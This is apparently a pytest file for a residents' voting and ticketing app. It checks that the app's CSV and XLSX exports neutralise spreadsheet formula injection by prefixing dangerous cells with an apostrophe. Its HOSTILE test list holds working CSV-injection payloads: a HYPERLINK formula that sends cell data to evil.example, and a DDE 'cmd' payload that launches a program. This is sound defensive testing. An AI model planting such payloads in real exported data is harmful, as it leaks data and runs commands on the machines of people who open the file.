"""Exports neutralise formulas (issue 14 §13).

A ballot titled ``=…`` became a formula in the XLSX export.  Every CSV and XLSX
download is written by ``residentvoice.exports``, which puts an apostrophe in
front of any text starting with =, +, -, @, a tab or a carriage return (after
leading blanks or control characters too), as OWASP advises."""
import csv
import io

import pytest
from openpyxl import load_workbook

from residentvoice import exports
from residentvoice.tickets import services as tickets

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "\x01=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert exports.neutral(text) == "'" + text


def test_other_values_are_left_alone():
    for value in ("充电桩", "'=already quoted", "a=b", 5, -5, 2.5, None, ""):
        assert exports.neutral(value) == value


def _csv_cells(response):
    assert response.status_code == 200
    rows = csv.reader(io.StringIO(response.get_data(True).lstrip("\ufeff"), newline=""))
    return [cell for row in rows for cell in row]


def _xlsx_cells(response):
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _no_formula(cells, hostile):
    values = [cell.value for cell in cells]
    assert "'" + hostile in values, values
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)


def test_the_ticket_dashboard_exports_neutralise_formulas(factory, auth, client, db):
    w = factory.world()
    hostile = HOSTILE[0]
    w.organisation.name = hostile
    w.compound_a.name = "+86 小区"
    tickets.set_rule(w.secretary, w.compound_a, "roads", w.organisation.id)
    tickets.create_ticket(w.resident, compound_id=w.compound_a.id, category="roads",
                          description="路面塌陷", household_id=w.household_a.id)
    auth.login(w.secretary)
    cells = _csv_cells(client.get("/tickets/dashboard.csv"))
    assert "'" + hostile in cells and "'+86 小区" in cells
    assert not any(c.startswith(("=", "+")) for c in cells)
    _no_formula(_xlsx_cells(client.get("/tickets/dashboard.xlsx")), hostile)


def test_the_ballot_exports_neutralise_formulas(factory, auth, client, db):
    from tests.voting.helpers import make_ballot
    w = factory.world()
    hostile = "=HYPERLINK(\"http://evil.example\",\"结果\")"
    ballot = make_ballot(w.secretary, w.compound_a, title=hostile, state="closed")
    auth.login(w.secretary)
    for what in ("results", "voters"):
        base = f"/ballots/{ballot.id}/export/{what}"
        cells = _csv_cells(client.get(base + ".csv"))
        assert not any(c.startswith("=") for c in cells)
        xlsx = _xlsx_cells(client.get(base + ".xlsx"))
        assert all(cell.data_type != "f" for cell in xlsx)
    cells = _csv_cells(client.get(f"/ballots/{ballot.id}/export/results.csv"))
    assert "'" + hostile in cells
    _no_formula(_xlsx_cells(client.get(f"/ballots/{ballot.id}/export/results.xlsx")), hostile)
